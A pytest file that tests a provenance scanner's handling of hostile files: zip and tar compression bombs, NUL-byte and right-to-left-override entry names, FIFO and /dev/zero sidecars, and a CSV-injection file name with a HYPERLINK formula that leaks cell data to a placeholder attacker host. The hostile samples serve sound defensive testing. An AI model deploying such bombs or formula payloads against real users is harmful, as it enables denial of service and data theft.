"""One bad entry is one bad row (issue 11): hostile sidecars, archives and special files
in a real `prov scan` against a real server, compression bombs that lie about their
sizes, and `prov verify` beside a FIFO or a link to /dev/zero. Every run that could hang
if a fix regressed runs in a subprocess with a timeout."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from clients.cli import main as prov_main
from clients.scan.engines import LocalEngine
from clients.scan.pipeline import fetch_bytes, run_scan
from clients.scan.sources import (
    EntryItem,
    FileItem,
    HashedItem,
    RefusedItem,
    ScanLimits,
    escape_name,
    iter_items,
    unescape_name,
)
from clients.scan.worker import ScanConfig
from tests.conftest import ADMIN_TOKEN, ROOT, SAMPLES, ServerProc, start_server

DEEP_JSON = b"[" * 200_000
JPEG = (SAMPLES / "rocket.jpg").read_bytes()
PNG = (SAMPLES / "chelsea.png").read_bytes()


def _prov(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """Run `prov` in a child process (a hang fails the test instead of the suite)."""
    return _child([sys.executable, "-m", "clients.cli", *args], timeout)


def _child(argv: list[str], timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """Run ``argv`` from the checkout with the admin token set, its output captured."""
    env = {**os.environ, "PROV_ADMIN_TOKEN": ADMIN_TOKEN}
    return subprocess.run(
        argv,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        cwd=ROOT,
    )


@pytest.fixture(scope="module")
def srv(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProc]:
    s = start_server(tmp_path_factory.mktemp("srv") / "prov.db")
    yield s
    s.stop()


def _zip_flagged_utf8_with_name(name: bytes, local_only: bool = False) -> bytes:
    """A zip of one entry named ``name`` (bytes that are not UTF-8) whose UTF-8 flag (bit
    11) says its names are UTF-8; ``local_only``: only the entry's local header has that
    name (the central directory's is ASCII)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:  # zipfile clears the flag of an ASCII name
        z.writestr("Z" * len(name), JPEG)
    data = bytearray(buf.getvalue().replace(b"Z" * len(name), name, 1 if local_only else -1))
    for magic, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # local, central
        at = data.index(magic) + flags_at
        data[at + 1] |= 0x08  # bit 11 of the little-endian flags
    return bytes(data)


def _zip_with_names(*names: bytes) -> bytes:
    """A zip of one JPEG entry per name, each name written as given (NUL bytes included,
    which Python's zipfile cuts names at when it writes them)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for i, name in enumerate(names):
            z.writestr(f"{i}" * len(name), JPEG + bytes([i]))
    data = buf.getvalue()
    for i, name in enumerate(names):
        data = data.replace(f"{i}".encode() * len(name), name)  # local header and directory
    return data


@pytest.fixture(scope="module")
def hostile(srv: ServerProc, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A folder of hostile entries beside good ones, scanned once; rows by path."""
    root = tmp_path_factory.mktemp("hostile")
    d = root / "desk"
    d.mkdir()
    (d / "good.jpg").write_bytes(JPEG)
    (d / "deep.jpg").write_bytes(PNG)
    (d / "deep.jpg.prov").write_bytes(DEEP_JSON)
    with zipfile.ZipFile(d / "deep.zip", "w") as z:
        z.writestr("x.prov", DEEP_JSON)
        z.writestr("ok.jpg", JPEG)
    (d / "x.tar.gz").write_bytes(b"\x1f\x8b\x08")
    (d / "stub.tar.gz").write_bytes(b"\x1f\x8b\x08\x00\x00\x00\x00\x00")  # 8 of 10 header bytes
    (d / "badname.zip").write_bytes(_zip_flagged_utf8_with_name(b"\xffb.jpg"))
    (d / "badlocal.zip").write_bytes(_zip_flagged_utf8_with_name(b"\xffb.jpg", local_only=True))
    with zipfile.ZipFile(d / "noname.zip", "w") as z:
        z.writestr(zipfile.ZipInfo(""), b"no name")
        z.writestr("ok.png", PNG)
    with tarfile.open(d / "nul.tar", "w", format=tarfile.PAX_FORMAT) as t:
        info = tarfile.TarInfo("placeholder.jpg")
        info.size, info.pax_headers = len(JPEG), {"path": "evil.jpg\x00.exe"}
        t.addfile(info, io.BytesIO(JPEG))
    (d / "nul.zip").write_bytes(_zip_with_names(b"ok.jpg", b"evil.jpg\x00.exe", b"d/\x00x.jpg"))
    (d / "fifo.jpg").write_bytes(PNG[:-1] + b"\x01")  # unsigned: its sidecar gets checked
    os.mkfifo(d / "fifo.jpg.prov")
    (d / "zero.png").write_bytes(PNG + b"\x02")
    os.symlink("/dev/zero", d / "zero.png.prov")
    (d / "empty.jpg").write_bytes(b"")
    single = root / "single"
    single.mkdir()
    (single / "x.png").write_bytes(PNG + b"\x03")
    os.mkfifo(single / "x.png.prov")
    report = root / "scan.jsonl"
    run = _prov(
        "scan",
        str(d),
        str(single / "x.png"),
        "--report",
        str(report),
        "--server",
        srv.address,
        "--workers",
        "0",
    )
    rows = [json.loads(line) for line in report.read_text().splitlines()] if report.exists() else []
    return {"run": run, "rows": {r["path"]: r for r in rows}, "d": d, "single": single}


def _row(hostile: dict[str, Any], name: str) -> dict[str, Any]:
    run = hostile["run"]
    assert run.returncode == 0, run.stderr[-2000:]
    assert "Traceback" not in run.stderr
    row: dict[str, Any] = hostile["rows"][f"{hostile['d']}/{name}"]
    return row


def test_scan_deep_json_sidecar_is_one_bad_row(hostile: dict[str, Any]) -> None:
    row = _row(hostile, "deep.jpg")
    assert row["status"] == "UNSIGNED" and "nested too deeply" in row["note"]
    assert _row(hostile, "deep.jpg.prov")["error"] is None
    assert _row(hostile, "deep.zip!x.prov")["kind"] == "file"
    assert _row(hostile, "deep.zip!ok.jpg")["status"] == "UNSIGNED"
    assert _row(hostile, "good.jpg")["status"] == "UNSIGNED"


def test_scan_three_byte_tar_gz_is_one_bad_row(hostile: dict[str, Any]) -> None:
    row = _row(hostile, "x.tar.gz")
    assert row["kind"] == "refused" and "not a readable tar archive" in row["error"]
    # gzip's header reader fails on it unforeseen: said in words, not "(TypeError)"
    assert "truncated or corrupt" in row["error"] and "Error" not in row["error"], row


def test_scan_gzip_stub_is_said_truncated_not_empty(hostile: dict[str, Any]) -> None:
    """A .tar.gz of 4-10 bytes (a gzip header cut short) is truncated, not empty: before,
    its row said "empty file"."""
    row = _row(hostile, "stub.tar.gz")
    assert row["kind"] == "refused" and "truncated" in row["error"], row
    assert "empty" not in row["error"], row


def test_scan_zip_name_not_utf8_though_flagged_is_said_in_words(hostile: dict[str, Any]) -> None:
    """A zip whose UTF-8 flag is set over an entry name that is not UTF-8: the row says
    so in plain words. Before: Python's "'utf-8' codec can't decode byte 0xff ..."."""
    for archive, what in [("badname.zip", "not a readable zip"), ("badlocal.zip", "cannot read")]:
        rows = [r for p, r in hostile["rows"].items() if p.startswith(f"{hostile['d']}/{archive}")]
        said = " ".join(str(r.get("error")) for r in rows)
        assert rows and "codec" not in said and "0xff" not in said.lower(), rows
        assert said.startswith(what) and "not UTF-8" in said and "says" in said, rows
        assert 'the entry name "\\xffb.jpg"' in said, said


def test_scan_zip_entry_with_empty_name_is_one_bad_row(hostile: dict[str, Any]) -> None:
    assert "empty entry name" in _row(hostile, "noname.zip!")["error"]
    assert _row(hostile, "noname.zip!ok.png")["status"] == "UNSIGNED"


def test_scan_zip_entry_names_with_a_nul_byte_are_said(hostile: dict[str, Any]) -> None:
    """A zip entry name holding a NUL byte is a refused row under its whole name, saying
    so. Before, Python's zipfile cut the name at the NUL without a word: "evil.jpg\\0.exe"
    was scanned as "evil.jpg", and "d/\\0x.jpg" was taken for the folder "d/" and had no
    row at all. A pax ``path`` record is given with its length too: a NUL in it is said
    the same way (before: "control character in the entry name")."""
    for archive, name, shown, cut in (
        ("nul.zip", "evil.jpg\x00.exe", r"evil.jpg\x00.exe", "evil.jpg"),
        ("nul.zip", "d/\x00x.jpg", r"d/\x00x.jpg", "d/"),
        ("nul.tar", "evil.jpg\x00.exe", r"evil.jpg\x00.exe", "evil.jpg"),
    ):
        row = _row(hostile, f"{archive}!{name}")
        assert row["kind"] == "refused" and row["status"] is None, row
        assert f'the entry name "{shown}"' in row["error"], row
        assert "NUL byte" in row["error"] and f'"{cut}"' in row["error"], row
        assert f"{hostile['d']}/{archive}!{cut}" not in hostile["rows"]
    assert _row(hostile, "nul.zip!ok.jpg")["status"] == "UNSIGNED"


def test_scan_fifo_sidecar_is_one_bad_row(hostile: dict[str, Any]) -> None:
    assert "not a regular file" in _row(hostile, "fifo.jpg.prov")["error"]
    row = _row(hostile, "fifo.jpg")
    assert row["status"] == "UNSIGNED" and row["note"] is None  # the FIFO was never opened
    single = hostile["rows"][f"{hostile['single']}/x.png"]
    assert single["status"] == "UNSIGNED" and single["note"] is None


def test_scan_dev_zero_sidecar_is_one_bad_row(hostile: dict[str, Any]) -> None:
    assert "symbolic link" in _row(hostile, "zero.png.prov")["error"]
    row = _row(hostile, "zero.png")
    assert row["status"] == "UNSIGNED" and row["note"] is None


def test_scan_empty_file_is_not_looked_up(hostile: dict[str, Any]) -> None:
    row = _row(hostile, "empty.jpg")
    assert (row["kind"], row["status"], row["evidence"]) == ("empty", None, None)
    assert row["note"] == "empty file: nothing to look up" and row["error"] is None
    assert "EMPTY" in hostile["run"].stdout  # its own line in the summary


@pytest.mark.slow  # five runs of `prov`, four of them child processes
def test_scan_csv_cells_never_start_a_formula(srv: ServerProc, tmp_path: Path) -> None:
    """File names a spreadsheet would run as formulas (`prov scan *` in a delivered folder
    hands them over bare) are CSV text cells: a leading ``'`` (OWASP "CSV Injection").
    Before, the CSV's path cell was ``=HYPERLINK("http://evil.example/?"&A1,"open")``
    itself. The JSON Lines report keeps the exact names."""
    d = tmp_path / "delivery"
    d.mkdir()
    names = ['=HYPERLINK("http:__evil.example_?"&A1,"open").jpg', "+1+cmd.png", "-2.jpg"]
    names += ["@SUM(A1).jpg", "plain.jpg"]
    for k, name in enumerate(names):
        (d / name).write_bytes(PNG + bytes([k]))
    with zipfile.ZipFile(d / "a.zip", "w") as z:
        z.writestr("=1+1.jpg", JPEG)
    report = tmp_path / "scan.jsonl"
    env = {**os.environ, "PROV_ADMIN_TOKEN": ADMIN_TOKEN, "PYTHONPATH": str(ROOT)}
    run = subprocess.run(
        [sys.executable, "-m", "clients.cli", "scan", "--report", str(report), "--server",
         srv.address, "--workers", "0", "--", *sorted([*names, "a.zip"])],
        capture_output=True, text=True, timeout=120, env=env, cwd=d,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr[-2000:]
    jsonl = {json.loads(line)["path"] for line in report.read_text().splitlines()}
    assert jsonl == {*names, "a.zip!=1+1.jpg"}
    with report.with_suffix(".csv").open(newline="", encoding="utf-8") as f:
        cells = [r for r in csv.reader(f)][1:]
    paths = {r[0] for r in cells}
    expected = {n if n == "plain.jpg" else "'" + n for n in names}
    assert paths == expected | {"a.zip!=1+1.jpg"}
    for r in cells:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), r


def test_verify_ignores_fifo_and_dev_zero_sidecars(
    srv: ServerProc, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    photo = tmp_path / "x.png"
    photo.write_bytes(PNG)
    os.mkfifo(tmp_path / "x.png.prov")
    run = _prov("verify", str(photo), "--json", "--no-detect", "--server", srv.address, timeout=30)
    report = json.loads(run.stdout)
    assert run.returncode == 11 and report["status"] == "UNSIGNED", run.stderr
    # a sidecar found beside the file that cannot be read is not used, and the report's
    # reasons say so (not only a warning on stderr)
    assert any("not a regular file" in r for r in report["reasons"]), report["reasons"]
    assert "Traceback" not in run.stderr
    run = _prov("verify", str(photo), "--sidecar", "/dev/zero", "--server", srv.address, timeout=30)
    # a sidecar named on the command line that is no sidecar: a usage error
    said = " ".join(run.stderr.replace("│", " ").split())  # rich's usage box wraps lines
    assert run.returncode == 2 and "is a device, not a regular file" in said, run.stderr
    run = _prov("verify", str(tmp_path / "x.png.prov"), "--server", srv.address, timeout=30)
    said = " ".join(run.stderr.replace("│", " ").split())
    assert run.returncode == 2 and "is a provenance sidecar" in said, run.stderr  # not opened
    os.mkfifo(tmp_path / "pipe.jpg")
    run = _prov("verify", str(tmp_path / "pipe.jpg"), "--server", srv.address, timeout=30)
    assert run.returncode == 1 and "FIFO" in run.stderr, run.stderr  # a FIFO as FILE
    from provenance.log.checkpoint import generate_log_key

    vkey = generate_log_key(tmp_path / "log.pem", "example.org/log").verifier_key()
    run = _prov("receipt", "verify", str(tmp_path / "x.png.prov"), "--log-key", vkey, timeout=30)
    # a SIDECAR argument that is no sidecar: a usage error, as README's exit codes say
    said = " ".join(run.stderr.replace("│", " ").split())
    assert run.returncode == 2 and "is a FIFO (named pipe), not a regular file" in said, said
    deep = tmp_path / "deep.prov"
    deep.write_bytes(DEEP_JSON)
    rc = prov_main(["verify", str(photo), "--sidecar", str(deep), "--server", srv.address])
    assert rc == 2 and "nested too deeply" in capsys.readouterr().err  # a usage error (h-side)


def _sparse_tar(path: Path, real_size: int) -> None:
    """A GNU sparse member (old format, type 'S') holding 512 bytes of data and
    declaring ``real_size`` bytes of holes, as `tar --sparse` writes it: 2 KiB on disk."""
    info = tarfile.TarInfo("holes.bin")
    info.size = 512
    buf = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
    buf[156:157] = tarfile.GNUTYPE_SPARSE
    # tarfile.itn: the stdlib's encoder of tar number fields
    itn: Callable[[int, int, int], bytes] = tarfile.itn  # type: ignore[attr-defined]  # not in typeshed
    buf[386:398] = itn(0, 12, tarfile.GNU_FORMAT)  # data at offset 0 ...
    buf[398:410] = itn(512, 12, tarfile.GNU_FORMAT)  # ... 512 bytes long
    buf[483:495] = itn(real_size, 12, tarfile.GNU_FORMAT)
    buf[148:156] = b" " * 8
    buf[148:155] = b"%06o\0" % sum(buf)
    path.write_bytes(bytes(buf) + b"\xab" * 512 + bytes(1024))


@pytest.mark.timeout(30)
def test_scan_sparse_tar_member_is_bounded(tmp_path: Path) -> None:
    tar = tmp_path / "sparse.tar"
    _sparse_tar(tar, 20 << 30)
    assert tar.stat().st_size == 2048
    with tarfile.open(tar) as t:  # the standard library reads it as a 20 GiB member
        assert t.getmembers()[0].size == 20 << 30
    items = list(iter_items([str(tar)], ScanLimits()))
    assert len(items) == 1 and isinstance(items[0], RefusedItem), items
    assert "sparse member of 21,474,836,480 bytes holding 512 bytes" in items[0].error


def _overlapping_zip(path: Path, entries: int, kernel: bytes) -> None:
    """Stored entries whose data all run to the end of one shared kernel, each quoting
    the local headers after it (Fifield's overlap, without compression)."""
    names = [f"f{k:02d}.bin" for k in range(entries)]
    header_len = [30 + len(n) for n in names]
    offsets = [sum(header_len[:k]) for k in range(entries)]
    total = sum(header_len) + len(kernel)
    body = bytearray(total)
    body[sum(header_len) :] = kernel
    sizes = [total - (offsets[k] + header_len[k]) for k in range(entries)]
    for k in reversed(range(entries)):  # later headers first: earlier data quotes them
        start = offsets[k] + header_len[k]
        crc = zlib.crc32(body[start:total])
        hdr = (
            b"PK\x03\x04"
            + (20).to_bytes(2, "little")
            + bytes(4)
            + bytes(4)
            + crc.to_bytes(4, "little")
            + sizes[k].to_bytes(4, "little") * 2
            + len(names[k]).to_bytes(2, "little")
            + bytes(2)
            + names[k].encode()
        )
        body[offsets[k] : start] = hdr
    central = bytearray()
    for k in range(entries):
        start = offsets[k] + header_len[k]
        crc = zlib.crc32(body[start:total])
        central += (
            b"PK\x01\x02"
            + (20).to_bytes(2, "little") * 2
            + bytes(4)
            + bytes(4)
            + crc.to_bytes(4, "little")
            + sizes[k].to_bytes(4, "little") * 2
            + len(names[k]).to_bytes(2, "little")
            + bytes(8)
            + bytes(4)
            + offsets[k].to_bytes(4, "little")
            + names[k].encode()
        )
    end = (
        b"PK\x05\x06"
        + bytes(4)
        + entries.to_bytes(2, "little") * 2
        + len(central).to_bytes(4, "little")
        + total.to_bytes(4, "little")
        + bytes(2)
    )
    path.write_bytes(bytes(body) + bytes(central) + end)


@pytest.mark.timeout(60)
def test_scan_overlapping_zip_entries_are_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "overlap.zip"
    _overlapping_zip(bomb, 50, os.urandom(2 << 20))
    with zipfile.ZipFile(bomb) as z:  # the standard library would inflate it 50 times
        assert sum(i.file_size for i in z.infolist()) > 40 * bomb.stat().st_size
        assert len(z.read("f00.bin")) > 2 << 20
    items = list(iter_items([str(bomb)], ScanLimits()))
    refused = [i for i in items if isinstance(i, RefusedItem)]
    assert len(items) == 50 and len(refused) == 49
    assert all("overlaps entry" in i.error for i in refused)
    (kept,) = [i for i in items if not isinstance(i, RefusedItem)]
    assert isinstance(kept, HashedItem) and kept.ref.endswith("!f49.bin")


@pytest.mark.timeout(60)
def test_scan_bytes_produced_by_an_archive_are_bounded(tmp_path: Path) -> None:
    """The same zip from a reader that only trusts the bytes it gets: a cap on the total
    produced stops the archive, whatever the directory says."""
    archive = tmp_path / "many.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        for k in range(8):
            z.writestr(f"z{k}.bin", bytes(1 << 20))
    items = list(iter_items([str(archive)], ScanLimits(ratio_min_bytes=2 << 20, max_ratio=50)))
    assert isinstance(items[-1], RefusedItem) and items[-1].ref == str(archive)
    assert "decompression ratio over 50:1" in items[-1].error
    assert len(items) <= 4


#: The bidirectional controls a name may carry: embeddings and overrides, isolates, and
#: the invisible direction marks (LRM, RLM, ALM).
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def test_scan_reports_show_bidi_controls_of_names_escaped(srv: ServerProc, tmp_path: Path) -> None:
    """Names with a right-to-left override ("cat\\u202egnp.exe" reads "catexe.png") or
    another bidirectional control, on disk and inside a zip, in rows of every kind the
    HTML page lists (an unsigned image, a refused archive): the HTML and CSV reports show
    each control as its escape (``\\u202e``) and carry none of them; the JSON Lines report
    keeps the exact names. Before, both reports carried the raw U+202E (and the CSV the
    others)."""
    d = tmp_path / "delivery"
    d.mkdir()
    unsigned = "cat\u202egnp.exe"
    (d / unsigned).write_bytes(PNG)
    refused = "bad\u202epiz.txt.zip"
    (d / refused).write_bytes(b"PK\x03\x04 not really a zip archive")
    (d / "note\u200ftxt.jpg").write_bytes(JPEG + b"\x00")
    with zipfile.ZipFile(d / "a.zip", "w") as z:
        z.writestr(
            "in\u2067side\u2069\u061c\u202a\u202b\u202c\u202d\u2066\u2068\u200e.png", PNG + b"\x01"
        )
    report = tmp_path / "scan.jsonl"
    rc = prov_main(
        ["scan", str(d), "--report", str(report), "--server", srv.address, "--workers", "0"]
    )
    assert rc == 0
    rows = [json.loads(line) for line in report.read_text().splitlines()]
    exact = {Path(r["path"]).name for r in rows}
    assert {unsigned, refused} <= exact and any("\u2067" in p for p in exact), exact
    page = report.with_suffix(".html").read_text(encoding="utf-8")
    table = report.with_suffix(".csv").read_text(encoding="utf-8")
    for text in (page, table):
        assert not any(c in text for c in BIDI), [hex(ord(c)) for c in text if c in BIDI]
    assert "cat\\u202egnp.exe" in page and "bad\\u202epiz.txt.zip" in page
    assert "cat\\u202egnp.exe" in table and "note\\u200ftxt.jpg" in table
    assert "a.zip!in\\u2067side\\u2069\\u061c\\u202a" in table, table


#: A byte that is not UTF-8, as the operating system and `tarfile` hand it over.
FF = os.fsdecode(b"\xff")
#: One name in Unicode's composed (NFC) and decomposed (NFD) forms: two names on Linux.
NFC, NFD = "\u00e9.jpg", "e\u0301.jpg"


def _lookalikes(d: Path) -> dict[str, bytes]:
    """Pairs of files whose refs were one before session 28, in a real folder, a tar and
    a zip; each file's bytes (a JPEG made distinct) by the ref it must get now.

    ``bad<0xFF>.jpg`` and ``bad\\xff.jpg`` (backslash, x, f, f) were both written
    ``bad\\xff.jpg``; a file named ``a.zip!x.jpg`` beside ``a.zip`` holding ``x.jpg``,
    and an entry ``d.zip!y.jpg`` beside a nested ``d.zip`` holding ``y.jpg``, both were
    ``...a.zip!x.jpg`` and ``...c.zip!d.zip!y.jpg``. Names that differ only in case or
    Unicode normalisation are there too (they never shared a ref)."""
    d.mkdir()
    n = iter(range(1, 100))

    def body() -> bytes:
        return JPEG + bytes([next(n)])

    want: dict[str, bytes] = {}
    for name, ref in ((f"bad{FF}.jpg", "bad\\xff.jpg"), ("bad\\xff.jpg", "bad\\\\xff.jpg")):
        want[f"{d}/{ref}"] = data = body()
        (d / name).write_bytes(data)
    for name in (NFC, NFD, "A.jpg", "a.jpg"):  # distinct names, never folded together
        want[f"{d}/{name}"] = data = body()
        (d / name).write_bytes(data)
    with zipfile.ZipFile(d / "a.zip", "w") as z:
        for name in ("x.jpg", NFC, NFD):
            want[f"{d}/a.zip!{name}"] = data = body()
            z.writestr(name, data)
    want[f"{d}/a.zip\\!x.jpg"] = data = body()
    (d / "a.zip!x.jpg").write_bytes(data)
    with tarfile.open(d / "t.tar", "w", format=tarfile.GNU_FORMAT) as t:
        for name, ref in ((f"bad{FF}.jpg", "bad\\xff.jpg"), ("bad\\xff.jpg", "bad\\\\xff.jpg")):
            want[f"{d}/t.tar!{ref}"] = data = body()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        want[f"{d}/c.zip!d.zip!y.jpg"] = data = body()
        z.writestr("y.jpg", data)
    with zipfile.ZipFile(d / "c.zip", "w") as z:
        want[f"{d}/c.zip!d.zip\\!y.jpg"] = data = body()
        z.writestr("d.zip!y.jpg", data)
        z.writestr("d.zip", inner.getvalue())
    return want


def test_names_that_escaped_alike_get_a_ref_each(tmp_path: Path) -> None:
    """Every file of `_lookalikes` is one item under its own ref (on the code of 640fea8,
    the two folder files shared a ref, and so did each pair on either side of a ``!``),
    and a folder file's ref unescapes to its path."""
    want = _lookalikes(tmp_path / "d")
    items = list(iter_items([str(tmp_path / "d")], ScanLimits()))
    got: dict[str, bytes] = {}
    for item in items:
        if isinstance(item, FileItem):
            assert unescape_name(item.ref) == item.path
            got[item.ref] = Path(item.path).read_bytes()
        else:
            assert isinstance(item, EntryItem), item
            got[item.ref] = item.data
    assert len(items) == len(got) == 14
    assert got == want


def test_escape_name_is_injective_and_undone() -> None:
    """Names that differ only in backslashes, ``!`` and undecodable bytes get refs that
    differ, and `unescape_name` gives each back; a valid UTF-8 name without ``\\`` or
    ``!`` is its own ref."""
    parts = ["a", "\\", "!", "x", "ff", FF, os.fsdecode(b"\x80"), "é", "\\x", " #2"]
    names = {a + b + c for a in parts for b in parts for c in parts}
    refs = {escape_name(n): n for n in names}
    assert len(refs) == len(names)
    assert all(unescape_name(r) == n for r, n in refs.items())
    assert escape_name("photos/été 2024/IMG 1.jpg") == "photos/été 2024/IMG 1.jpg"


def test_scan_gives_lookalike_names_a_row_each_and_resumes(srv: ServerProc, tmp_path: Path) -> None:
    """A scan of `_lookalikes` against a real server writes one row per file, under its
    own path, with that file's SHA-256 (on the code of 640fea8, ``bad<0xFF>.jpg`` and
    ``a.zip!x.jpg`` had no row and no warning); --resume scans none of them again; the
    bytes read again for a thumbnail are each row's own file's."""
    want = _lookalikes(tmp_path / "d")
    report = tmp_path / "scan.jsonl"
    config = ScanConfig(server=srv.address)
    first = run_scan([str(tmp_path / "d")], report, config, LocalEngine(0))
    rows = [json.loads(line) for line in report.read_text().splitlines()]
    assert first.scanned == len(rows) == len(want)
    assert {r["path"]: r["sha256"] for r in rows} == {
        ref: hashlib.sha256(data).hexdigest() for ref, data in want.items()
    }
    text = report.read_text()
    again = run_scan([str(tmp_path / "d")], report, config, LocalEngine(0), resume=True)
    assert (again.scanned, again.skipped) == (0, len(want))
    assert report.read_text() == text
    assert dict(fetch_bytes(rows, ScanLimits())) == want


def test_an_archive_with_an_odd_name_is_named_as_its_refs_are(
    srv: ServerProc, tmp_path: Path
) -> None:
    """A zip named ``p!\\<0xFF>.zip`` (a ``!``, a backslash, an undecodable byte): its
    entries' rows give it as their ``archive`` escaped as in their ``path``
    (``p\\!\\\\\\xff.zip``), in the JSON Lines report and the CSV, and the thumbnail
    fetch reads the entry again from it. Before, ``archive`` was the raw name: a lone
    surrogate ``\\udcff`` in the JSON (jq reads U+FFFD) and the CSV, ``!`` and ``\\``
    unescaped beside the escaped ``path``."""
    d = tmp_path / "d"
    d.mkdir()
    zpath = d / f"p!\\{FF}.zip"
    with zipfile.ZipFile(zpath, "w") as z:
        z.writestr("in!.jpg", JPEG + b"\x02")
    report = tmp_path / "scan.jsonl"
    rc = prov_main(
        ["scan", str(d), "--report", str(report), "--server", srv.address, "--workers", "0"]
    )
    assert rc == 0
    text = report.read_text(encoding="utf-8")
    assert "\\udc" not in text, text
    (row,) = [json.loads(line) for line in text.splitlines()]
    escaped = f"{d}/p\\!\\\\\\xff.zip"
    assert row["archive"] == escaped and row["path"] == f"{escaped}!in\\!.jpg", row
    (cells,) = list(csv.reader(io.StringIO(report.with_suffix(".csv").read_text())))[1:]
    assert cells[1] == escaped, cells
    assert dict(fetch_bytes([row], ScanLimits())) == {row["path"]: JPEG + b"\x02"}


#: `prov` (clients.cli, its arguments after ``-c``) with files limited to 16 KiB and
#: SIGXFSZ ignored, so a write past the limit fails with EFBIG as a full disk's does.
SMALL_FILES = (
    "import resource, runpy, signal, sys\n"
    "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
    "resource.setrlimit(resource.RLIMIT_FSIZE, (16_384, 16_384))\n"
    "sys.argv = ['prov', *sys.argv[1:]]\n"
    "runpy.run_module('clients.cli', run_name='__main__', alter_sys=True)\n"
)


def test_a_report_that_cannot_be_written_says_rows_are_kept(
    srv: ServerProc, tmp_path: Path
) -> None:
    """A report whose disk fills mid-scan (here: a file size limit, RLIMIT_FSIZE, with
    SIGXFSZ ignored, so each write past it fails as a full disk's does) ends the scan with
    exit 1 and a line naming the error, that the rows so far are kept and that --resume
    continues; the report's rows read back and a resume with room finishes it. Before,
    the only line was "error: File too large" (or "No space left on device"). The limit
    is set by the child itself before it runs `prov` (`SMALL_FILES`): no preexec_fn
    (tests/test_no_preexec_fn.py)."""
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(400):
        (folder / f"{i:03d}.txt").write_text(f"note {i}")
    report = tmp_path / "scan.jsonl"

    args = ["scan", str(folder), "--report", str(report), "--server", srv.address]
    full = _child([sys.executable, "-c", SMALL_FILES, *args, "--workers", "0"])
    err = " ".join(full.stderr.split())
    assert full.returncode == 1, err
    assert "File too large" in err and f"the rows so far are kept in {report}" in err, err
    # the file that could not be written is named, and what to do about it is said
    assert re.search(rf"File too large: {re.escape(str(tmp_path))}/scan\.\S+;", err), err
    assert "free space" in err, err
    assert "--resume" in err and "Traceback" not in err, err
    done = _prov(*args, "--workers", "0", "--resume")
    assert done.returncode == 0, done.stderr[-2000:]
    rows = [json.loads(line) for line in report.read_text().splitlines()]
    assert sorted(r["path"] for r in rows) == sorted(str(p) for p in folder.iterdir())


def test_a_full_disk_under_the_report_names_the_file(srv: ServerProc, tmp_path: Path) -> None:
    """A report on a disk that fills mid-scan (a 64 KiB tmpfs, mounted in a mount
    namespace of the child's own: ``unshare -m``, root) names the file that could not be
    written, as the file size limit above does. Before: "error: No space left on device;
    free space on its disk, ..." naming no file: closing the report after its failed
    write raised the error again without the file's name, and that one was reported."""
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(400):
        (folder / f"{i:03d}.txt").write_text(f"note {i}")
    disk = tmp_path / "disk"
    disk.mkdir()
    report = disk / "scan.jsonl"
    scan = [sys.executable, "-m", "clients.cli", "scan", str(folder), "--report", str(report)]
    script = 'mount -t tmpfs -o size=64k tmpfs "$1" && shift && exec "$@"'
    mounted = ["unshare", "-m", "sh", "-c", script, "sh", str(disk)]
    full = _child([*mounted, *scan, "--server", srv.address, "--workers", "0"])
    err = " ".join(full.stderr.split())
    assert "mount" not in err and "unshare" not in err, err  # no namespace: a failure, not a skip
    assert full.returncode == 1, err
    assert re.search(rf"No space left on device: {re.escape(str(disk))}/scan\.\S+;", err), err
    assert f"the rows so far are kept in {report}" in err and "Traceback" not in err, err


def test_a_file_swapped_for_a_fifo_before_its_thumbnail_is_left_out(tmp_path: Path) -> None:
    """A scanned file replaced by a FIFO before the report's thumbnails are drawn (a
    hostile folder) is left out, as a vanished one is, and the next row's bytes still
    come: before, `fetch_bytes` opened it with a plain open(), which waits for a writer
    for ever, and the scan never finished its report."""
    import threading

    fifo, photo = tmp_path / "a.jpg", tmp_path / "b.jpg"
    os.mkfifo(fifo)
    photo.write_bytes(JPEG)
    rows = [{"path": str(fifo)}, {"path": str(photo)}]
    got: dict[str, bytes] = {}
    done = threading.Event()

    def fetch() -> None:
        got.update(fetch_bytes(rows, ScanLimits()))
        done.set()

    threading.Thread(target=fetch, daemon=True).start()
    try:
        assert done.wait(60), "fetch_bytes is blocked opening the FIFO"
    finally:
        if not done.is_set():  # a writer lets the blocked open() return
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    assert got == {str(photo): JPEG}
